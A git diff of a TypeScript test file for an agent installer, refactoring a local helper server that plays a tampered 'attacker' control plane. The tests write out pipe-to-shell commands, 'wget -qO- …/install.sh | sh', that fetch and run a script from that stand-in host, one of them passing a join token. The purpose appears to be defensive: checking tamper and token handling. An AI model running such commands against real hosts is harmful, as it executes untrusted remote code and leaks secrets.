@@ -1,15 +1,10 @@
-import { once } from 'node:events';
 import { createReadStream } from 'node:fs';
 import { mkdtemp, rm } from 'node:fs/promises';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
 import packageFile from '../../package.json' with { type: 'json' };
-import type { ReleaseManifest } from '../../agent-protocol/release-manifest.ts';
-import { installScript } from '../../api/pages/install-script.ts';
 import { createClient } from '../../cli/client.ts';
 import type { ApiObject, Client } from '../../cli/client.ts';
 import { startBareContainer } from '../harness/bare-container.ts';
@@ -17,6 +12,7 @@ import type { BareContainer } from '../harness/bare-container.ts';
 import { builtRelease, ownPlatform } from '../harness/built-release.ts';
 import type { BuiltRelease } from '../harness/built-release.ts';
 import { freePort, Program } from '../harness/program.ts';
+import { otherControlPlane } from '../harness/other-control-plane.ts';
 import { smallRelease } from '../harness/small-release.ts';
 import { until } from '../harness/until.ts';
 
@@ -76,36 +72,6 @@ function connected(id: string): Promise<true> {
 const bareMachine = (): Promise<BareContainer> => startBareContainer(release.executable);
 const output = async (machine: BareContainer, line: string): Promise<string> => (await machine.run(line)).stdout.trim();
 
-/** Serves the script of a release and these bytes in place of its executable; `asked` is called before they are sent. */
-async function otherControlPlane(
-  manifest: ReleaseManifest,
-  content: () => NodeJS.ReadableStream | string,
-  asked: () => Promise<void> = async () => undefined,
-): Promise<{ url: string } & AsyncDisposable> {
-  const http = createServer((request, response) => {
-    const own = `http://127.0.0.1:${(http.address() as AddressInfo).port}`; // a TCP server has such an address
-    if (request.url === '/install.sh') {
-      void installScript(manifest, own).then((script) => response.end(script));
-      return;
-    }
-    void asked().then(() => {
-      const bytes = content();
-      if (typeof bytes === 'string') response.end(bytes);
-      else bytes.pipe(response);
-    });
-  });
-  http.listen(0, '127.0.0.1');
-  await once(http, 'listening');
-  return {
-    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`, // as above
-    async [Symbol.asyncDispose]() {
-      http.close();
-      http.closeAllConnections();
-      await once(http, 'close');
-    },
-  };
-}
-
 describe('the command that a new server answers with', () => {
   it('installs the agent where there is no Node, lets it join, and forgets the token', async () => {
     await using machine = await bareMachine();
@@ -145,7 +111,7 @@ describe('the command that a new server answers with', () => {
       return bytes;
     };
     const asked = async (): Promise<void> => void (processes = await output(machine, 'ps -o args'));
-    await using attacker = await otherControlPlane(release.manifest, changed, asked);
+    await using attacker = await otherControlPlane(release.manifest, { content: changed, asked });
     const line = `wget -qO- ${attacker.url}/install.sh | SETPOINT_JOIN_TOKEN=${token} sh -s -- --server ${attacker.url}/default`;
     // from a file: the shell of the test would have the line as its argument
     await machine.run(`echo '${line}' >/tmp/line`);
@@ -190,7 +156,7 @@ describe('a later release', () => {
     expect((await machine.run(command)).code).toBe(0);
     const broken = '#!/bin/sh\n[ "$1" != --version ] || { echo 9.9.9; exit; }\necho cannot start >&2\nexit 1\n';
     await using later = await smallRelease('9.9.9', { [ownPlatform]: broken });
-    await using other = await otherControlPlane(later.manifest, () => broken);
+    await using other = await otherControlPlane(later.manifest, { content: () => broken });
     const ended = await machine.run(`wget -qO- ${other.url}/install.sh | sh`);
     expect(ended.code).toBe(1);
     expect(ended.stderr).toContain(
